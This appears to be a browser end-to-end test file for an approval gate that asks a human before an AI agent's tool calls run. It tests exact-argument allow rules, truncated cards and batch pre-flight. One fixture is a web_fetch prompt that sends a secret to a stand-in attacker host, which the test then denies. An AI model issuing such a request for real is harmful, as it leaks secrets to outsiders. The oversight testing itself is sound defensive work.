/**
 * Nothing allowed that a human did not see (issue 31), in real headless Chromium against
 * `wrangler dev`: the card's "Allow for 1 h" on a request without a command says what one click
 * allows (the tool and exactly these arguments), and the rule it makes leaves the same tool with
 * other arguments to a human; a card cut to the stored-bytes limit offers only Deny; the batch
 * pre-flight shows a command whole and leaves out of an allow the request whose diff it does not
 * show. Steps build on each other.
 */
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Approval } from "../../sdk/src/approval";
import { type GateSession, type RequestPermissionResponse, Tapgate, tapgateAnswerMeta } from "../../sdk/src/index";
import type { RequestPermissionParams } from "../../sdk/src/protocol";
import {
  browserAvailable,
  desktopContext,
  Human,
  type LocalApp,
  launchChromium,
  screenshot,
  signUpByEmail,
  startApp,
  unique,
} from "./harness";

const OPTIONS: RequestPermissionParams["options"] = [
  { optionId: "allow", name: "Allow once", kind: "allow_once" },
  { optionId: "deny", name: "Deny", kind: "reject_once" },
];

describe.skipIf(!browserAvailable)("the card allows only what it showed, in headless Chromium", () => {
  let app: LocalApp;
  let browser: Browser;
  let desk: BrowserContext;
  let page: Page;
  let human: Human;
  let tapgate: Tapgate;
  let session: GateSession;
  let sessionId: string;
  const errors: string[] = [];

  const ask = (toolCall: Omit<RequestPermissionParams["toolCall"], "toolCallId">) => {
    const toolCallId = unique("call");
    const answer = session.requestPermission({ sessionId, toolCall: { toolCallId, ...toolCall }, options: OPTIONS });
    const held = vi.waitFor(
      async () => {
        const { approvals } = await human.json<{ approvals: Approval[] }>("/v1/approvals?state=pending&limit=200");
        const found = approvals.find((a) => a.snapshot.toolCall.toolCallId === toolCallId);
        if (!found) throw new Error(`${toolCallId} is not pending yet`);
        return found;
      },
      { timeout: 15_000, interval: 50 },
    );
    return { answer, held };
  };
  const webFetch = (prompt: string) => ({ title: "web_fetch", kind: "fetch" as const, rawInput: { prompt } });

  /** Opens a request's card in the board's side panel. */
  async function openCard(approval: Approval) {
    await page.getByTestId(`board-open-${approval.id}`).click();
    const panel = page.getByTestId("board-panel");
    await panel.getByTestId("options").waitFor();
    return panel;
  }

  beforeAll(async () => {
    [app, browser] = await Promise.all([startApp(), launchChromium()]);
    desk = await desktopContext(browser, app, errors);
    page = await desk.newPage();
    await signUpByEmail(page, app, "Ada", "screen-board");
    human = await Human.of(app, desk);
    tapgate = new Tapgate({ url: app.direct, apiKey: await human.createKey(), onLog: () => undefined });
    sessionId = unique("scope");
    session = await tapgate.session(sessionId, { title: "Read the notes", host: "ada-laptop" });
  });

  afterAll(async () => {
    tapgate?.close();
    await browser?.close();
    await app?.stop();
    expect(errors).toEqual([]);
  });

  it("Allow for 1 h on a web_fetch says its arguments; the rule allows that URL only", async () => {
    const first = ask(webFetch("Summarize https://example.com/notes"));
    const panel = await openCard(await first.held);
    const offer = panel.getByTestId("option-allow-rule");
    expect(await offer.getByTestId("option-label").textContent()).toBe(
      "Allow web_fetch (prompt: “Summarize https://example.com/notes”) for 1 h, exactly these arguments",
    );
    expect(await offer.getByTestId("rule-preview").textContent()).toContain(
      "Exactly these arguments:\nprompt: Summarize https://example.com/notes",
    );
    await screenshot(page, "rule-offer-arguments.png");
    await offer.click();
    expect(await first.answer).toMatchObject({ outcome: { outcome: "selected", optionId: "allow" } });

    const same = ask(webFetch("Summarize https://example.com/notes"));
    expect(tapgateAnswerMeta(await same.answer)?.reason).toBe("rule");
    const other = ask(webFetch("Summarize https://attacker.example/?k=secret"));
    const held = await other.held;
    expect(held.state).toBe("pending");
    await (await openCard(held)).getByTestId("option-deny").click();
    expect(await other.answer).toMatchObject({ outcome: { outcome: "selected", optionId: "deny" } });

    await page.goto("/rules");
    const arguments_ = page.getByTestId("rule-arguments");
    await arguments_.waitFor();
    expect(await arguments_.textContent()).toBe(
      "Exactly these arguments:\nprompt: Summarize https://example.com/notes",
    );
    await page.goto("/");
    await page.getByTestId("screen-board").waitFor();
  });

  it("a card cut to the stored-bytes limit offers only Deny, saying why", async () => {
    await human.json("/v1/policy", {
      method: "PUT",
      body: JSON.stringify({ limits: { storedBytesPerRequest: 4096 } }),
    });
    const big = ask({
      title: "Write big.txt",
      kind: "edit",
      rawInput: { path: "/repo/big.txt", content: "y".repeat(20_000) },
    });
    const approval = await big.held;
    const bytesNotStored = approval.snapshot.truncated?.bytesNotStored;
    expect(bytesNotStored).toBeGreaterThan(15_000);
    const panel = await openCard(approval);
    expect(await panel.getByTestId("allow-refused").textContent()).toBe(
      `Too large to review here: ${bytesNotStored} bytes not stored. Only deny remains.`,
    );
    expect(await panel.getByTestId("option-allow").count()).toBe(0);
    expect(await panel.getByTestId("option-allow-rule").count()).toBe(0);
    await screenshot(page, "card-truncated.png");
    await panel.getByTestId("option-deny").click();
    expect(await big.answer).toMatchObject({ outcome: { outcome: "selected", optionId: "deny" } });
    await human.json("/v1/policy", { method: "PUT", body: JSON.stringify({}) });
  });

  it("the batch pre-flight shows a long command whole and leaves out of an allow the request whose diff it does not show", async () => {
    const command = `npm run build -- ${Array.from({ length: 60 }, (_, i) => `--define=FLAG_${i}=on`).join(" ")} && curl -s https://example.com/hook`;
    const long = ask({ title: "Bash: npm …", kind: "execute", rawInput: { command } });
    const diff = ask({
      title: "Edit a.ts",
      kind: "edit",
      content: [{ type: "diff", path: "/repo/a.ts", oldText: "a", newText: "b" }],
    });
    const [longApproval, diffApproval] = [await long.held, await diff.held];
    const answers: Promise<RequestPermissionResponse>[] = [long.answer, diff.answer];
    for (const a of [longApproval, diffApproval]) {
      await page.getByTestId(`board-row-${a.id}`).getByRole("checkbox").check();
    }
    await page.getByTestId("batch-allow").click();
    const preflight = page.getByTestId("batch-preflight");
    await preflight.waitFor();
    const shown = preflight.getByTestId(`preflight-${longApproval.id}`).getByTestId("preflight-command");
    expect(await shown.textContent()).toBe(command);
    expect(await shown.getByTestId("show-all").count()).toBe(0);
    expect(
      await preflight.getByTestId(`preflight-${diffApproval.id}`).getByTestId("preflight-left-out").textContent(),
    ).toBe("its diff is not shown here: open it to decide; left out");
    expect(await page.getByTestId("batch-confirm").textContent()).toBe("Confirm: allow once 1");
    await screenshot(page, "batch-preflight-whole.png");
    await page.getByTestId("batch-confirm").click();
    expect(await answers[0]).toMatchObject({ outcome: { outcome: "selected", optionId: "allow" } });
    expect((await human.approval(diffApproval.id)).state).toBe("pending");
  });
});
